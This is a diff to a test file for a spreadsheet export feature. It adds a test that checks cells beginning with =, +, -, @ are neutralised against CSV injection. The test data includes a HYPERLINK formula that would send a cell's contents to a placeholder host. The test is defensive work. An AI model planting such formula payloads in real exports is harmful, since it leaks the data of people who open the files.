@@ -105,6 +105,15 @@ describe('the export gate', () => {
     expect(extractTextFingerprint(text)).toBe(sessions.current()?.codeHex);
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (CSV injection), quoted or not', async () => {
+    const csv = 'metric,score\r\n=HYPERLINK("http://x/?"&A1),"+1"\r\n@SUM(A1),-2\r\n';
+    const outcome = await exportExcerpt(exportRequestSchema.parse({ kind: 'csv', artifactId: ARTIFACT, label: 'rows 1-3', justification: 'Quoted in the finding about refusal rates.', passphrase: 'the right passphrase', csv }), deps);
+    const text = fromUtf8(readFileSync(join(deps.exportDir, outcome.result.fileName))).replace(/[\u200b-\u200f\u2060-\u2064\ufeff]/g, '');
+    const cells = text.split('\r\n').slice(1).flatMap((row) => row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map((c) => c.replace(/^"/, ''));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells.filter((c) => c.startsWith("'"))).toHaveLength(4);
+  });
+
   const refusals: [string, () => void, ExportRequest | (() => ExportRequest), RwError['code']][] = [
     ['the policy denies export', () => (policy = DEFAULT_POLICY), () => png(), 'DENIED'],
     ['the passphrase is wrong', () => undefined, () => png({ passphrase: 'a wrong passphrase' }), 'AUTH_FAILED'],
